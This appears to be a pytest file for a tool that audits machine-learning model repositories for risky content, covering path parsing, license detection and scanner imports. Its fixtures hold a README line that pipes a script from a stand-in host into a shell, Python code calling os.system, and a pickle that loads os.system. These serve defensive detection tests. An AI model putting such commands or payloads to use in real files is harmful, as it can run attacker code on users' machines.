"""The per-file fast paths of the scan give what the slow ones gave: string path parts as PurePosixPath,
path roles from the rules, license patterns compiled on use, the survey's small-file records."""
from __future__ import annotations

import ast
import hashlib
import json
import os
import re
import subprocess
import sys
from pathlib import Path, PurePosixPath

import pytest

from auditor import inventory
from auditor.model import Options
from auditor.parsers import licensetext, loadgraph, relpath
from auditor.pipeline import audit
from auditor.sources import local

PATHS = ["a.py", "x/y/Train.PY", ".env", "cfg/.env", "foo.", "a.tar.gz", "...", "x/.py", "docs.md/x.py",
         "README", "part001/tokenizer_12.json", ".github/workflows/ci.yml", "a/b.c/d", "münchen/ß.Md"]


@pytest.mark.parametrize("path", PATHS)
def test_relpath_parts_are_those_of_purepath(path: str) -> None:
    assert relpath.name(path) == PurePosixPath(path).name
    assert relpath.suffix(path) == PurePosixPath(path).suffix


@pytest.mark.parametrize(("path", "role"), [
    (".github/workflows/sync.yml", loadgraph.CI), ("sub/.travis.yml", loadgraph.CI),
    ("data/train.jsonl", loadgraph.DATA), ("x/Datasets/a.py", loadgraph.DATA),
    ("examples/run.py", loadgraph.EXAMPLE), ("nb.ipynb", loadgraph.EXAMPLE), ("src/test_model.py", loadgraph.EXAMPLE),
    ("Gradio_app.py", loadgraph.EXAMPLE), ("docs/modeling.py", loadgraph.DOCS), ("README.md", loadgraph.DOCS),
    ("modeling_x.py", loadgraph.SHIPPED), ("./modeling_x.py", loadgraph.SHIPPED), ("a//b/modeling.py", loadgraph.SHIPPED),
])
def test_path_roles(path: str, role: str) -> None:
    assert loadgraph.path_role(path) == role


def test_every_license_extract_pattern_compiles_and_file_roles_match_each_pattern() -> None:
    cat = licensetext.catalog()
    assert cat.extract
    for group in cat.extract.values():   # compiled on first use: a broken pattern must still fail a test
        assert len(group.patterns) == len(group.pattern_texts)
        assert len(group.negations) == len(group.negation_texts)
    from auditor import rules
    table = rules.load("licenses.yaml")["license_files"]
    names = ("license", "license-model.md", "notice", "use_policy.md", "copying", "model.py", "模型许可协议.pdf",
             "third_party_licenses.txt", "LICENSE-CODE", "Model-License.pdf", "community_license.py", "terms-of-use.md",
             "responsible_use.md", "sub/folder/NOTICE", "readme.md", "")
    for name in names:   # the first role whose patterns match the lower-cased base name, as the table reads
        base = name.rsplit("/", 1)[-1].lower()
        expected = next((role for role, patterns in table.items() if any(re.match(p, base) for p in patterns)), "")
        assert licensetext.file_role(name) == expected, name
    assert {licensetext.file_role(n) for n in names} >= set(table) | {""}   # every role is reached


def test_survey_keeps_no_head_of_small_files_but_records_their_format_and_hash(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text(json.dumps({"a": 1}))
    oid = "a" * 64
    (tmp_path / "w.safetensors").write_text(f"version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize 9\n")
    snapshot = local.open_snapshot(str(tmp_path), Options())
    surveyed = inventory.survey(snapshot, Options())
    assert surveyed.read_whole["config.json"][0] == b""            # the format is in the record already
    assert surveyed.read_whole["w.safetensors"][0].startswith(b"version")   # an LFS pointer keeps its oid's bytes
    with inventory.Hashing(surveyed, snapshot, Options()) as hashing:
        files = {f.path: f for f in hashing.result().files}
    assert files["config.json"].format == "text"
    assert files["config.json"].sha256 == hashlib.sha256((tmp_path / "config.json").read_bytes()).hexdigest()
    assert files["w.safetensors"].format == "lfs-pointer" and files["w.safetensors"].publisher_sha256 == oid


def test_readme_run_instruction_found_on_any_line(tmp_path: Path) -> None:
    (tmp_path / "README.md").write_text("# card\n\nsome text\n" * 50 + "Run: curl -s https://x.example/i.sh | sh\n")
    (tmp_path / "model.safetensors").write_bytes(b"")   # something to audit beside the card
    found = [f for f in audit(str(tmp_path), Options(engines=("auditor",))).findings if f.rule == "SCRIPT-README-RUN"]
    assert [(f.location, f.severity.label) for f in found] == [("line 151", "medium")]


def test_modelscan_prefilter_covers_every_extension_modelscan_reads() -> None:
    """The engine skips importing modelscan when no file has one of these extensions: the list must be a
    superset of what the installed modelscan scans, or a file it reads would go unscanned by it."""
    from modelscan.settings import DEFAULT_SETTINGS

    from auditor.scanners import modelscan_engine
    assert set(modelscan_engine._extensions(DEFAULT_SETTINGS)) <= set(modelscan_engine.MAYBE_MODELSCAN)


def test_modelscan_engine_still_scans_a_pickle(tmp_path: Path) -> None:
    import pickle
    (tmp_path / "model.pkl").write_bytes(pickle.dumps({"w": [1, 2, 3]}))
    (tmp_path / "config.json").write_text("{}")
    result = audit(str(tmp_path), Options())
    assert "model.pkl" in result.facts["modelscan"]["scanned"]


# Readers a repo of configs, tokenizers, cards and safetensors files never needs: each is imported by the
# scanner that meets its kind of file (yaml for YAML, ast for Python, the archive readers for containers).
UNNEEDED = ("yaml", "auditor.parsers.pyast", "auditor.parsers.archive", "auditor.scanners.pickle_containers",
            "auditor.parsers.picklevm", "auditor.scanners.pickle_streams", "tarfile", "zipfile", "tomllib",
            "html.parser", "auditor.sandbox", "numpy",
            "concurrent.futures", "logging", "platform", "auditor.parsers.gguf", "auditor.parsers.pdftext")   # no hashing pool when the survey hashed every file


def test_a_repo_without_code_archives_or_yaml_imports_none_of_their_readers(tmp_path: Path) -> None:
    import numpy as np
    from safetensors.numpy import save_file

    model = tmp_path / "m"
    model.mkdir()
    (model / "config.json").write_text('{"model_type": "llama", "architectures": ["LlamaForCausalLM"]}')
    (model / "tokenizer.json").write_text('{"model": {"type": "BPE"}}')
    (model / "README.md").write_text("# card\n\nno front matter\n")
    save_file({"w": np.zeros(4, np.float32)}, str(model / "model.safetensors"))
    code = ("import sys\nfrom auditor.pipeline import audit\nresult = audit(sys.argv[1])\n"
            f"print(sorted(m for m in {UNNEEDED!r} if m in sys.modules), len(result.files))")
    env = {**os.environ, "AUDITOR_CACHE": str(tmp_path / "cache")}
    subprocess.run([sys.executable, "-c", code, str(model)], capture_output=True, check=True, env=env)  # fills the cache
    out = subprocess.run([sys.executable, "-c", code, str(model)], capture_output=True, text=True, check=True, env=env)
    assert out.stdout.split("\n")[-2] == "[] 4"


def test_the_readers_left_out_still_run_when_their_files_are_there(tmp_path: Path) -> None:
    """The other side of the lazy imports: a card with front matter, Python code, a pickle in a zip."""
    import pickle
    import zipfile

    (tmp_path / "README.md").write_text("---\nlicense: mit\n---\n# card\n")
    (tmp_path / "modeling_x.py").write_text("import os\nos.system('id')\n")
    with zipfile.ZipFile(tmp_path / "model.pt", "w") as zf:
        zf.writestr("archive/data.pkl", pickle.dumps(os.system))
    result = audit(str(tmp_path), Options(engines=("auditor",)))
    found = {(f.rule, f.file) for f in result.findings}
    assert {("CODE-PROCESS", "modeling_x.py"), ("PICKLE-GLOBAL-DANGEROUS", "model.pt"), ("LICENSE-IDENTIFIED", "")} <= found


def test_a_small_repo_is_read_once_the_scanners_get_the_bytes_the_survey_hashed(tmp_path: Path) -> None:
    """Cards, configs, tokenizers, code and a Dockerfile: each opened once, by the survey; the scanners still
    find what is in them."""
    model = tmp_path / "m"
    model.mkdir()
    (model / "config.json").write_text('{"model_type": "llama", "auto_map": {"AutoModel": "modeling_x.X"}}')
    (model / "tokenizer.json").write_text('{"model": {"type": "BPE"}}')
    (model / "README.md").write_text("---\nlicense: mit\n---\n# card\n\nRun: curl -s https://x.example/i.sh | sh\n")
    (model / "modeling_x.py").write_text("import os\nos.system('id')\nURL = 'https://api.deepseek.com/v1'\n")
    (model / "Dockerfile").write_text("FROM python:3.11\nENV HF_ENDPOINT=https://hf-mirror.com\n")
    code = ("import sys, collections\n"
            "opened = collections.Counter()\n"
            "root = sys.argv[1]\n"
            "def hook(event, args):\n"
            "    if event == 'open' and isinstance(args[0], str) and args[0].startswith(root + '/'):\n"
            "        opened[args[0][len(root) + 1:]] += 1\n"
            "sys.addaudithook(hook)\n"
            "from auditor.model import Options\n"
            "from auditor.pipeline import audit\n"
            "result = audit(root, Options(engines=('auditor',)))\n"
            "print(dict(opened))\n"
            "print(sorted({(f.rule, f.file) for f in result.findings}))\n")
    out = subprocess.run([sys.executable, "-c", code, str(model)], capture_output=True, text=True, check=True)
    opened_line, findings_line = out.stdout.strip().split("\n")[-2:]
    opened = ast.literal_eval(opened_line)
    assert opened == dict.fromkeys(("Dockerfile", "README.md", "config.json", "modeling_x.py", "tokenizer.json"), 1)
    for expected in ("('CODE-PROCESS', 'modeling_x.py')", "('SCRIPT-README-RUN', 'README.md')",
                     "('AUTOMAP-REMOTE-CODE', 'config.json')", "('ENDPOINT-ORIGIN-API', 'modeling_x.py')",
                     "('DEPLOY-ORIGIN-MIRROR', 'Dockerfile')", "('LICENSE-IDENTIFIED', '')"):
        assert expected in findings_line, findings_line


def test_the_survey_keeps_small_files_up_to_its_budget(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for i in range(6):
        (tmp_path / f"f{i}.txt").write_bytes(b"x" * 1000)
    (tmp_path / "big.bin").write_bytes(b"y" * (inventory.READ_WHOLE + 1))
    monkeypatch.setattr(inventory, "KEEP_BYTES", 3500)
    surveyed = inventory.survey(local.open_snapshot(str(tmp_path), Options()), Options())
    assert sorted(surveyed.contents) == ["f0.txt", "f1.txt", "f2.txt"]        # 3 x 1000 <= 3500 < 4 x 1000
    assert all(data == b"x" * 1000 for data in surveyed.contents.values())
    assert "big.bin" not in surveyed.read_whole and len(surveyed.read_whole) == 6
